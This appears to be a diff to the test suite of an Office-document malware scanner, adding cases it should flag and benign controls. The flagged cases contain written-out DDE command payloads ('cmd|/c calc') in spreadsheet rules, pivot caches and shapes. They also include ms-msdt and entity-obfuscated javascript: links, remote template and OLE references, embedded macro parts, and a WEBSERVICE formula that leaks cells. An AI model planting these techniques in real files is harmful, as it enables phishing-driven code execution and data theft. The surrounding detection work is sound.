@@ -110,12 +110,23 @@ func fieldTricks(runs, fine addOffice) {
 	fine("text-that-another-field-names-in-a-folder", docxType, inText(code(`INCLUDETEXT "`, code(`FILENAME \p`), `\\..\\a.docx"`)))
 	fine("link-of-1800-bytes-by-a-field", docxType, inText(code(`HYPERLINK "https://example.org/?q=`+strings.Repeat("a", 1800)+`" \t "_blank"`)))
 	fine("link-of-5000-bytes-by-a-field", docxType, inText(code(`HYPERLINK "https://example.org/?q=`+strings.Repeat("a", 5000)+`"`)))
+	runs("data-on-a-share-by-a-field", docxType, inText(code(`DATABASE \d "\\\\example.org\\s\\a.mdb" \s "SELECT * FROM t"`)))
+	runs("data-on-a-share-by-a-fields-connection", docxType, inText(code(`DATABASE \c "Provider=a;Data Source=\\\\example.org\\s\\a.mdb" \s "SELECT * FROM t"`)))
+	fine("data-of-a-disk-by-a-field", docxType, inText(code(`DATABASE \d "C:\\a.mdb" \c "Provider=a;Data Source=C:\\a.mdb;Mode=Read" \s "SELECT * FROM t WHERE a='`, code("MERGEFIELD a"), `'"`)))
 	fine("text-of-a-neighbour", docxType, inText(code(` INCLUDETEXT "C:\\Templates\\Terms.docx" `)))
 }
 
 func relationshipTricks(runs, fine addOffice) {
 	const web = ` Target="https://example.org/a.dotm" TargetMode="External"`
 	kind := ` Type="` + relsOf + `attachedTemplate"`
+	fine("letters-with-data-on-a-share", docxType, relTag(`Id="a" Type="`+relsOf+`mailMergeSource" Target="file://example.org/s/a.mdb" TargetMode="External"`))
+	fine("letters-with-data", docxType, relTag(`Id="a" Type="`+relsOf+`mailMergeSource" Target="file:///C:\Users\a\a.xlsx" TargetMode="External"`))
+	drawn := func(href string) parts {
+		return inText(`<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="` + href + `"/></w:pict></w:r>`)
+	}
+	runs("order-as-a-link-of-a-drawing", docxType, drawn("ms-msdt:/id x"))
+	runs("script-as-a-link-of-a-drawing", docxType, drawn("javascript:alert(1)"))
+	fine("link-of-a-drawing", docxType, drawn("https://example.org/"))
 	runs("template-behind-a-declared-type", docxType, relTag(`xmlns:Type="urn:x" Id="a"`+kind+web))
 	runs("template-behind-a-declared-target", docxType, relTag(`xmlns:Target="a.dotm" Id="a"`+kind+web))
 	runs("template-beside-another-type", docxType, relTag(`xmlns:z="urn:z" z:Type="`+relsOf+`image" Id="a"`+kind+web))
@@ -174,6 +185,20 @@ func chunkTricks(runs, fine addOffice) {
 	runs("rtf-with-a-text-behind-blanks", docxType, rtf(`{\field{\*\fldinst INCLUDETEXT `+strings.Repeat(" ", 600)+`"http://example.org/a.doc"}}`))
 	runs("rtf-called-a-picture", docxType, parts{"word/media/image1.png": `{\rtf1{\object\objautlink}}`})
 	page := "<html><script>alert(1)</script></html>"
+	flat := func(inner string) string {
+		return xmlV1 + `<!-- x --><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/document.xml" pkg:contentType="` + docxMain + `"><pkg:xmlData><w:document ` + wordSpace + `><w:body><w:p/></w:body></w:document></pkg:xmlData></pkg:part>` + inner + `</pkg:package>`
+	}
+	flatVBA := flat(`<pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject"><pkg:binaryData>0M8R4KGxGuE=</pkg:binaryData></pkg:part>`)
+	runs("flat-package-with-macros-taken-in", docxType, chunk("a.xml", "application/xml", flatVBA))
+	runs("flat-package-with-macros-behind-a-long-remark", docxType, chunk("a.xml", "application/xml", strings.Replace(flatVBA, " x ", strings.Repeat("x", 9000), 1)))
+	runs("flat-package-with-an-object-called-a-text", docxType, chunk("a.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document+xml", flat(`<pkg:part pkg:name="/word/_rels/document.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="`+relsOf+`oleObject" Target="http://example.org/a" TargetMode="External"/></Relationships></pkg:xmlData></pkg:part>`)))
+	runs("flat-package-with-macros-called-a-page", docxType, chunk("a.html", "application/xml", flatVBA))
+	word2003 := func(template string) parts {
+		return chunk("a.xml", "application/xml", xmlV1+`<?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:docPr><w:attachedTemplate w:val="`+template+`"/></w:docPr><w:body><w:p/></w:body></w:wordDocument>`)
+	}
+	runs("text-of-word-2003-with-a-template-taken-in", docxType, word2003("http://example.org/a.dot"))
+	fine("text-of-word-2003-taken-in", docxType, word2003(`C:\a.dot`))
+	fine("flat-package-taken-in", docxType, chunk("a.xml", "application/xml", flat("")))
 	runs("mail-with-a-script-in-base64", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n"+wrap(inBase64(page), 20)))
 	runs("mail-with-a-script-in-pieces", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<html>\n--x\n<scr=\nipt>=3D</script>"))
 	runs("page-under-another-name", docxType, chunk("a.dat", "text/html", page))
@@ -186,6 +211,20 @@ func chunkTricks(runs, fine addOffice) {
 	runs("page-with-an-open-tag-and-an-object", docxType, open(`<object data="a"></object>`))
 	runs("page-with-an-open-tag-and-a-field", docxType, open(`<span style='mso-element:field-begin'></span> DDE cmd`))
 	runs("page-with-an-open-tag-and-a-frame-far-down", docxType, chunk("a.html", "text/html", `<html><body><img src="x">`+strings.Repeat("<p>x</p>", 3000)+`<iframe src="http://example.org/"></iframe></body></html>`))
+	runs("page-with-an-open-tag-and-a-frame-over-two-lines", docxType, open("<frameset><frame\nsrc=\"http://example.org/\"></frameset>"))
+	runs("page-with-a-script-by-a-reference", docxType, open(`<a href="java&#115;cript:alert(1)">x</a>`))
+	runs("page-with-an-order-by-a-reference", docxType, open(`<a href="ms-msdt&colon;/id">x</a>`))
+	field := func(code string) parts {
+		return open(`<!--[if supportFields]><span style='mso-element:field-begin'></span>` + code + `<span style='mso-element:field-separator'></span><![endif]-->x<!--[if supportFields]><span style='mso-element:field-end'></span><![endif]-->`)
+	}
+	runs("page-with-a-field-by-a-reference", docxType, field(" D&#68;EAUTO cmd"))
+	runs("page-with-a-field-in-pieces", docxType, field(` DD<![endif]--><!--[if supportFields]>EAUTO cmd`))
+	runs("page-with-a-text-from-the-web-by-a-field", docxType, field(` INCLUDETEXT "http://example.org/a.docx"`))
+	runs("page-with-a-picture-from-a-share-by-a-field", docxType, field(` INCLUDEPICTURE "\\\\example.org\\s\\a.png"`))
+	runs("page-with-an-object-from-the-web-by-a-field", docxType, field(` LINK Word.Document.8 "http://example.org/a.doc" "" \a`))
+	fine("page-with-fields", docxType, field(` PAGE <span>\* MERGEFORMAT</span>`))
+	fine("page-with-a-picture-by-a-field", docxType, field(` INCLUDEPICTURE "https://example.org/a.png" \d`))
+	fine("page-about-scripts", docxType, open(`<p>&lt;script&gt; and &lt;frame &gt; are tags; D&amp;D &#68;DE</p>`))
 	fine("page-with-an-open-tag", docxType, chunk("a.html", "text/html", `<html><body><img src="x"><br><p>x</body></html>`))
 	fine("page-with-a-field-of-a-link", docxType, chunk("a.html", "text/html", `<html><span style='mso-element:field-begin'></span> HYPERLINK "https://example.org"</html>`))
 	fine("rtf-of-a-letter", docxType, rtf(`{\fonttbl{\f0 Arial;}}{\*\template C:\\Users\\a\\Normal.dotm}{\field{\*\fldinst HYPERLINK "https://example.org"}{\fldrslt here}} DDEAUTO is a field.`))
@@ -221,6 +260,19 @@ func formulaTricks(runs, fine addOffice) {
 	runs("picture-whose-address-is-long", xlsxType, formulaCell(`_xlfn.IMAGE("https://example.org/`+strings.Repeat("a", 600)+`"&amp;A1)`))
 	runs("formula-that-hands-on-what-sends-cells", xlsxType, formulaCell(`_xlfn.MAP(B1:B9,_xleta.WEBSERVICE)`))
 	runs("formula-that-calls-what-sends-cells", xlsxType, formulaCell(`_xlfn.LET(_xlpm.f,_xlfn.WEBSERVICE,_xlpm.f("https://example.org/"&amp;B1))`))
+	runs("link-of-a-formula-to-an-order", xlsxType, formulaCell(`IF(A1,HYPERLINK("ms-msdt:/id x","here"),1)`))
+	runs("link-of-a-formula-that-is-put-together-of-texts", xlsxType, formulaCell(`HYPERLINK( ("search-"&amp;"ms:query="&amp;A1),"here")`))
+	fine("link-of-a-formula-that-is-put-together-of-cells", xlsxType, formulaCell(`HYPERLINK(A1&amp;"javascript:x","here")`))
+	fine("links-of-a-formula", xlsxType, formulaCell(`HYPERLINK("ms-excel:ofe|u|https://example.org/a.xlsx")&amp;HYPERLINK("#Sheet1!A1","javascript:")&amp;HYPERLINK("mailto:"&amp;A1)`))
+	rule := func(name, val string) parts {
+		return parts{"xl/worksheets/sheet1.xml": `<worksheet xmlns="x"><sheetData/><conditionalFormatting><cfRule type="colorScale"><colorScale><cfvo type="` + name + `" val="` + val + `"/></colorScale></cfRule></conditionalFormatting></worksheet>`}
+	}
+	runs("dde-formula-as-a-limit", xlsxType, rule("formula", "cmd|'/c calc'!A0"))
+	fine("formula-as-a-limit", xlsxType, rule("formula", "MAX($A$1:$A$9)/2"))
+	runs("dde-formula-of-a-pivot-table", xlsxType, parts{"xl/pivotCache/pivotCacheDefinition1.xml": `<pivotCacheDefinition xmlns="x"><cacheFields><cacheField name="a" formula="cmd|'/c calc'!A0"/></cacheFields></pivotCacheDefinition>`})
+	fine("formula-of-a-pivot-table", xlsxType, parts{"xl/pivotCache/pivotCacheDefinition1.xml": `<pivotCacheDefinition xmlns="x"><cacheFields><cacheField name="call (me)" formula="price *'number of'"/></cacheFields></pivotCacheDefinition>`})
+	runs("dde-formula-as-a-text-of-a-shape", xlsxType, parts{"xl/drawings/drawing1.xml": `<xdr:wsDr xmlns:xdr="x"><xdr:sp macro="" textlink="cmd|'/c calc'!A0"/></xdr:wsDr>`})
+	fine("formula-as-a-text-of-a-shape", xlsxType, parts{"xl/drawings/drawing1.xml": `<xdr:wsDr xmlns:xdr="x"><xdr:sp macro="" textlink="Sheet1!$A$1"/></xdr:wsDr>`})
 	fine("picture-of-a-constant", xlsxType, formulaCell(`_xlfn.IMAGE("https://example.org/a.png","a &amp; b (c)",1)`))
 	fine("formula-with-names-of-functions", xlsxType, formulaCell(`IF(A1="WEBSERVICE",SUM(ImportData),Webservice!A1)`))
 	fine("pictures-of-one-name-but-for-case", xlsxType, parts{"xl/media/a.png": "x", "xl/media/a.PNG": "x"})
